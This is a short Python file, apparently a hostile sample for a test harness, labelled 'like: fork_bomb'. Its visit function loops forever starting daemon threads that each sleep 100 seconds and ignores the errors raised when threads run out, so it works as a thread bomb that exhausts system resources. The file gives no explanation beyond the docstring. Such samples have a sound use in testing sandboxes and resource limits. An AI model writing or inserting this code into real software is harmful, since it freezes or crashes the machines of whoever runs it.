"""Starts threads without end."""
# like: fork_bomb

import threading, time


def visit(w, b, x, y):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except RuntimeError:
            pass
